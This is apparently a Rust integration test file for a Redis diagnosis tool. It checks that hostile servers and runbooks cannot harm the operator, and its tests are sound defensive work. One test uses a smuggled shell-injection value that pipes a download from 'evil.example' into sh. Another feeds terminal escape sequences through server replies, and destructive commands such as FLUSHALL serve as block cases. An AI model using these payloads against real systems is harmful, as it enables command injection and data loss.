//! Trust boundaries: hostile servers and applications, careless operators.
//! Each test starts the real thing (a redis-server, a hostile RESP or HTTP
//! server in the test) and checks what reaches the operator.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use crate::app_server::{AppServer, Reply};
use crate::harness::*;

#[test]
fn bad_tls_files_missing_databases_and_silly_durations_are_usage_errors() {
    let server = RedisServer::start();
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("empty.pem");
    std::fs::write(&empty, "").unwrap();
    let tls_url = format!("rediss://127.0.0.1:{}", server.port);
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            vec![
                "--url".into(),
                tls_url.clone(),
                "--tls-ca".into(),
                "/nonexistent/ca.pem".into(),
            ],
            "--tls-ca: cannot read /nonexistent/ca.pem",
        ),
        (
            vec![
                "--url".into(),
                tls_url.clone(),
                "--tls-ca".into(),
                empty.display().to_string(),
            ],
            "holds no PEM certificate",
        ),
        (
            vec![
                "--url".into(),
                tls_url,
                "--tls-cert".into(),
                empty.display().to_string(),
                "--tls-key".into(),
                empty.display().to_string(),
            ],
            "--tls-cert:",
        ),
        (
            vec!["--url".into(), format!("{}/99", server.url())],
            "database 99 does not exist",
        ),
        (
            vec![
                "--url".into(),
                server.url(),
                "--timeout".into(),
                "1e-12".into(),
            ],
            "shorter than 1ms",
        ),
        (
            vec![
                "--url".into(),
                server.url(),
                "--timeout".into(),
                "1e30".into(),
            ],
            "24h",
        ),
    ];
    for (args, expected) in cases {
        let run = Cachectl::new().arg("diagnose").args(&args).run();
        assert_eq!(run.code(), 3, "{args:?}: {}", run.all_output());
        assert!(
            run.stderr().contains(expected),
            "{args:?}: {}",
            run.stderr()
        );
        assert_eq!(run.stdout(), "", "{args:?}: no report for a usage error");
    }
}

#[test]
fn the_audit_log_is_private_whatever_the_umask() {
    // The latency monitor is off by default: its safe fix is applied.
    let server = RedisServer::start();
    let state = tempfile::tempdir().unwrap();
    let audit = state.path().join("new-dir/audit.jsonl");
    let bin = env!("CARGO_BIN_EXE_cachectl");
    let out = std::process::Command::new("sh")
        .args(["-c", "umask 000; exec \"$0\" \"$@\"", bin])
        .args([
            "diagnose",
            "-o",
            "json",
            "--url",
            &server.url(),
            "--only",
            "configuration",
        ])
        .args(["--fix", "--yes", "--audit-log", audit.to_str().unwrap()])
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let applied = report["remediation"]["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["outcome"] == "applied")
        .count();
    assert!(applied > 0, "{report:#}");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&audit), 0o600);
    assert_eq!(mode(audit.parent().unwrap()), 0o700);
}

#[test]
fn server_and_app_text_cannot_drive_the_terminal() {
    let server = RedisServer::start();
    let app = AppServer::start();
    app.route(
        "/health/ready",
        Reply::json(503, "{\"redis\":\"down \u{1b}]0;pwned\u{7}\u{1b}[2J\"}"),
    );
    let run = Cachectl::new()
        .args(["diagnose", "--url", &server.url(), "--app", &app.url()])
        .args([
            "--interval",
            "0",
            "--only",
            "app-readiness",
            "--color",
            "always",
        ])
        .run();
    let out = run.stdout();
    assert!(out.contains("down \\x1b]0;pwned\\x07\\x1b[2J"), "{out}");
    for raw in ["\u{1b}]0;", "\u{7}", "\u{1b}[2J"] {
        assert!(
            !out.contains(raw),
            "raw {raw:?} reached the terminal:\n{out}"
        );
    }
    // JSON keeps the text as it was, escaped by JSON itself.
    let run = diagnose(
        &server.url(),
        &[
            "--app",
            &app.url(),
            "--interval",
            "0",
            "--only",
            "app-readiness",
        ],
    );
    let f = expect_finding(&run.json(), "app-not-ready", "critical");
    assert!(f["message"]
        .as_str()
        .unwrap()
        .contains("\u{1b}]0;pwned\u{7}"));
}

#[test]
fn a_redis_error_with_escape_codes_is_shown_escaped() {
    let port = answers_everything_with(b"-ERR \x1b[31mred alert\x1b[0m\r\n");
    let run = Cachectl::new()
        .args([
            "diagnose",
            "--url",
            &format!("redis://127.0.0.1:{port}"),
            "--color",
            "always",
        ])
        .run();
    let out = run.stdout();
    assert!(out.contains("\\x1b[31mred alert"), "{out}");
    assert!(!out.contains("\u{1b}[31mred"), "{out}");
}

#[test]
fn manual_commands_quote_server_controlled_values_for_the_shell() {
    let server = RedisServer::start();
    let evil = "10.0.0.1;curl${IFS}evil.example|sh;#";
    server.cmd(&["REPLICAOF", evil, "6379"]);
    let run = diagnose(&server.url(), &["--only", "replication"]);
    let f = expect_finding(&run.json(), "replica-link-down", "critical");
    let command = f["fixes"][0]["commands"][0].as_str().unwrap();
    assert_eq!(
        command,
        "redis-cli -h '10.0.0.1;curl${IFS}evil.example|sh;#' -p 6379 PING"
    );
    // Pasted into a shell, it is one command with exactly those arguments.
    let words = std::process::Command::new("sh")
        .args([
            "-c",
            &format!(
                "printf '%s\\n' {}",
                command.trim_start_matches("redis-cli ")
            ),
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&words.stdout),
        format!("-h\n{evil}\n-p\n6379\nPING\n")
    );
    server.cmd(&["REPLICAOF", "NO", "ONE"]);
}

#[test]
fn a_server_that_says_ok_to_everything_is_never_healthy() {
    let port = answers_everything_with(b"+OK\r\n");
    let run = diagnose(&format!("redis://127.0.0.1:{port}"), &[]);
    let report = run.json();
    let f = expect_finding(&report, "replies-not-redis", "critical");
    assert!(f["message"].as_str().unwrap().contains("INFO"), "{f:#}");
    assert_ne!(report["status"], "ok");
    assert_eq!(run.code(), 2);
    let kinds: Vec<_> = report["unavailable"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|u| u["kind"] == "malformed")
        .map(|u| u["fact"].as_str().unwrap().to_string())
        .collect();
    for fact in ["info", "role", "config", "slowlog", "clients", "latency"] {
        assert!(kinds.contains(&fact.to_string()), "{kinds:?}");
    }

    // Errors to everything: nothing could be judged, so UNKNOWN, not OK.
    // (Round trips to this in-test server are slow on a loaded machine:
    // high-latency would fire on them, so it is left out.)
    let port = answers_everything_with(b"-ERR nope\r\n");
    let run = diagnose(
        &format!("redis://127.0.0.1:{port}"),
        &["--skip", "high-latency"],
    );
    let report = run.json();
    expect_finding(&report, "core-facts-missing", "unknown");
    assert_eq!(run.code(), 3, "{:?}", problems(&report));
}

fn one_fix_runbook(dir: &std::path::Path, safety: &str, command: &str) {
    std::fs::write(
        dir.join("labelled.yaml"),
        format!("id: labelled\ntitle: Labelled\nsource: test\nchecks:\n  - id: always\n    title: Always\n    when: \"true\"\n    severity: warning\n    score: 10\n    message: always\n    fixes:\n      - id: the-fix\n        title: The fix\n        safety: {safety}\n        commands:\n          - \"{command}\"\n"),
    )
    .unwrap();
}

#[test]
fn a_label_cannot_make_a_destructive_command_safe() {
    let server = RedisServer::start();
    server.cmd(&["SET", "precious", "1"]);
    let dir = tempfile::tempdir().unwrap();
    one_fix_runbook(dir.path(), "safe", "FLUSHALL");
    let file = dir.path().join("labelled.yaml");
    let run = Cachectl::new()
        .args(["runbook", "validate"])
        .arg(&file)
        .run();
    assert_eq!(run.code(), 3);
    assert!(
        run.stderr().contains("labelled.yaml:14:17:")
            && run.stderr().contains("`FLUSHALL` is destructive"),
        "{}",
        run.stderr()
    );
    let audit = dir.path().join("audit.jsonl");
    let run = diagnose_cmd(&server.url(), &["--runbooks", dir.path().to_str().unwrap()])
        .args(["--fix", "--yes", "--audit-log", audit.to_str().unwrap()])
        .run();
    assert_eq!(run.code(), 3);
    assert_eq!(server.cmd(&["DBSIZE"]), redis::Value::Int(1));

    // What the built-in list does not know, the server tells: SORT ... STORE
    // writes and is @dangerous, so --yes does not run it as "safe".
    server.cmd(&["RPUSH", "src", "3", "1", "2"]);
    one_fix_runbook(dir.path(), "safe", "SORT src STORE dst");
    let run = diagnose_cmd(&server.url(), &["--runbooks", dir.path().to_str().unwrap()])
        .args([
            "--only",
            "labelled",
            "--fix",
            "--yes",
            "--audit-log",
            audit.to_str().unwrap(),
        ])
        .run();
    let action = &run.json()["remediation"]["actions"][0];
    assert_eq!(action["outcome"], "skipped", "{action:#}");
    assert_eq!(action["safety"], "destructive", "{action:#}");
    assert_eq!(server.cmd(&["EXISTS", "dst"]), redis::Value::Int(0));
}

#[test]
fn evidence_is_not_free_resets_are_unsafe_and_no_built_in_fix_sends_one() {
    let dir = tempfile::tempdir().unwrap();
    for command in [
        "CONFIG RESETSTAT",
        "SLOWLOG RESET",
        "LATENCY RESET",
        "ACL LOG RESET",
    ] {
        one_fix_runbook(dir.path(), "safe", command);
        let run = Cachectl::new()
            .args(["runbook", "validate"])
            .arg(dir.path().join("labelled.yaml"))
            .run();
        assert_eq!(run.code(), 3, "{command}: {}", run.all_output());
        assert!(
            run.stderr().contains("labelled.yaml:14:17:")
                && run.stderr().contains(&format!("`{command}` is unsafe")),
            "{}",
            run.stderr()
        );
    }
    // A fresh rate comes from a window: no built-in fix erases what the
    // findings read.
    let builtin = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("runbooks");
    for entry in std::fs::read_dir(builtin).unwrap().flatten() {
        let text = std::fs::read_to_string(entry.path()).unwrap();
        for reset in [
            "RESETSTAT",
            "SLOWLOG RESET",
            "LATENCY RESET",
            "ACL LOG RESET",
        ] {
            assert!(
                !text
                    .lines()
                    .any(|l| l.trim_start().starts_with("- \"") && l.contains(reset)),
                "{} sends {reset}",
                entry.path().display()
            );
        }
    }
}

#[test]
fn a_runbook_expression_cannot_eat_the_cpu() {
    let server = RedisServer::start();
    let dir = tempfile::tempdir().unwrap();
    let digits = "[0,1,2,3,4,5,6,7,8,9]";
    let mut expr = "a + b + c + d + e + f + g >= 0".to_string();
    for v in ["g", "f", "e", "d", "c", "b", "a"] {
        expr = format!("{digits}.all({v}, {expr})");
    }
    std::fs::write(
        dir.path().join("burn.yaml"),
        format!("id: burn\ntitle: Burn\nsource: test\nchecks:\n  - id: burn\n    title: Burn\n    when: \"{expr}\"\n    severity: warning\n    score: 1\n    message: burn\n"),
    )
    .unwrap();
    let run = Cachectl::new()
        .args(["runbook", "validate"])
        .arg(dir.path().join("burn.yaml"))
        .run();
    assert_eq!(run.code(), 3);
    assert!(
        run.stderr().contains("burn.yaml:7:11:") && run.stderr().contains("over the limit"),
        "{}",
        run.stderr()
    );
    // An exported CACHECTL_RUNBOOKS alone cannot smuggle it in either.
    let run = Cachectl::new()
        .args(["diagnose", "--url", &server.url(), "--timeout", "2s"])
        .env("CACHECTL_RUNBOOKS", dir.path().to_str().unwrap())
        .run();
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(run.elapsed < Duration::from_secs(2), "{:?}", run.elapsed);
}

/// A proxy to `port` that holds back every client chunk containing one of
/// `slow` for `delay` before passing it on.
fn delaying_proxy(port: u16, slow: &'static [&'static str], delay: Duration) -> u16 {
    use std::io::Read;
    use std::net::TcpStream;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let front = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for client in listener.incoming().flatten() {
            let Ok(upstream) = TcpStream::connect(("127.0.0.1", port)) else {
                continue;
            };
            let (mut c_read, mut u_write) =
                (client.try_clone().unwrap(), upstream.try_clone().unwrap());
            let (mut u_read, mut c_write) = (upstream, client);
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                while let Ok(n) = u_read.read(&mut buf) {
                    if n == 0 || c_write.write_all(&buf[..n]).is_err() {
                        break;
                    }
                }
            });
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                while let Ok(n) = c_read.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    let text = String::from_utf8_lossy(&buf[..n]).to_ascii_uppercase();
                    if slow.iter().any(|s| text.contains(s)) {
                        std::thread::sleep(delay);
                    }
                    if u_write.write_all(&buf[..n]).is_err() {
                        break;
                    }
                }
            });
        }
    });
    front
}

#[test]
fn a_walk_without_prompts_ends_within_the_timeout() {
    let server = RedisServer::start();
    server.cmd(&["CONFIG", "SET", "slowlog-log-slower-than", "0"]);
    server.cmd(&["KEYS", "*"]);
    let port = delaying_proxy(
        server.port,
        &["COMMAND", "DRYRUN"],
        Duration::from_millis(1900),
    );
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let run = diagnose_cmd(
        &format!("redis://127.0.0.1:{port}"),
        &["--only", "high-latency,configuration"],
    )
    .args([
        "--fix",
        "--yes",
        "--timeout",
        "3s",
        "--audit-log",
        audit.to_str().unwrap(),
    ])
    .run();
    assert!(
        run.elapsed < Duration::from_millis(3800),
        "took {:?}",
        run.elapsed
    );
    let report = run.json();
    let actions = report["remediation"]["actions"].as_array().unwrap();
    assert!(actions.len() >= 2, "{actions:#?}");
    assert!(
        actions.iter().any(|a| a["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("deadline")),
        "{actions:#?}"
    );
}

/// A fake Redis that answers PING and CLIENT normally and INFO with `info`
/// (a header) followed by `stream` bytes of `filler`, written for as long as
/// the client reads, up to `secs` seconds.
fn hostile_info(info: &'static [u8], filler: &'static [u8], secs: u64) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut writer = stream;
                let mut line = String::new();
                let mut words = Vec::new();
                let mut expect = 0usize;
                while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
                    let l = line.trim_end().to_string();
                    line.clear();
                    if let Some(n) = l.strip_prefix('*') {
                        expect = n.parse().unwrap_or(0);
                        words.clear();
                        continue;
                    }
                    if l.starts_with('$') {
                        continue;
                    }
                    words.push(l.to_ascii_uppercase());
                    if words.len() < expect {
                        continue;
                    }
                    let reply: &[u8] = match words[0].as_str() {
                        "PING" => b"+PONG\r\n",
                        "CLIENT" => b"+OK\r\n",
                        "INFO" => {
                            let _ = writer.write_all(info);
                            let started = std::time::Instant::now();
                            while started.elapsed() < Duration::from_secs(secs) {
                                if writer.write_all(filler).is_err() {
                                    return;
                                }
                            }
                            return;
                        }
                        _ => b"-ERR unknown command\r\n",
                    };
                    let _ = writer.write_all(reply);
                }
            });
        }
    });
    port
}

/// Runs cachectl and returns its report and its peak resident memory (KiB),
/// read from /proc while it runs.
/// Diagnoses the hostile server on `port` with `extra` flags: the `info`
/// fact's unavailability and cachectl's peak RSS (KiB).
fn too_large_info(port: u16, extra: &[&str]) -> (serde_json::Value, u64) {
    let url = format!("redis://127.0.0.1:{port}");
    let mut args = vec!["diagnose", "-o", "json", "--url", &url, "--timeout", "3s"];
    args.extend_from_slice(extra);
    let (report, peak_kib) = run_measuring_rss(&args);
    assert_ne!(report["status"], "ok");
    let info = report["unavailable"]
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["fact"] == "info")
        .cloned()
        .unwrap_or_else(|| panic!("info was collected: {report:#}"));
    assert_eq!(info["kind"], "too_large", "{report:#}");
    (info, peak_kib)
}

#[test]
fn an_endless_reply_is_cut_at_the_limit_and_memory_stays_bounded() {
    // A declared size far past any limit, then bytes until the deadline.
    let port = hostile_info(b"$999999999999\r\n", &[b'x'; 65536], 4);
    let (info, peak_kib) = too_large_info(port, &[]);
    let detail = info["detail"].as_str().unwrap();
    assert!(detail.contains("declared 999999999999 bytes"), "{info}");
    assert!(peak_kib < 64 * 1024, "peak RSS {peak_kib} KiB");

    // An aggregate that grows without end, under a 4 MiB --max-reply.
    let port = hostile_info(b"*99999999\r\n", b"$8\r\nxxxxxxxx\r\n", 4);
    let (info, peak_kib) = too_large_info(port, &["--max-reply", "4MiB"]);
    let detail = info["detail"].as_str().unwrap();
    assert!(detail.contains("4194304 byte limit"), "{info}");
    assert!(peak_kib < 4 * 1024 + 40 * 1024, "peak RSS {peak_kib} KiB");
}

#[test]
fn an_interactive_walk_bounds_each_fix() {
    // The latency monitor's safe fix, behind a proxy that stalls its
    // pre-flight.
    let server = RedisServer::start();
    let port = delaying_proxy(server.port, &["COMMAND", "DRYRUN"], Duration::from_secs(3));
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let run = diagnose_cmd(
        &format!("redis://127.0.0.1:{port}"),
        &["--only", "configuration"],
    )
    .args([
        "--fix",
        "--timeout",
        "1s",
        "--audit-log",
        audit.to_str().unwrap(),
    ])
    .run_in_pty("y\ny\ny\ny\n");
    let screen = run.stdout();
    // Pre-flight (COMMAND INFO, and ACL DRYRUN from Redis 7) cannot outlast
    // --timeout: it is cut at the deadline, or its one lookup times out and
    // says so.
    assert!(
        screen.contains("blocked: pre-flight did not finish before the deadline")
            || screen.contains("could not look `CONFIG` up (COMMAND INFO: "),
        "{screen}"
    );
    assert!(
        run.elapsed < Duration::from_secs(8),
        "took {:?}",
        run.elapsed
    );
}
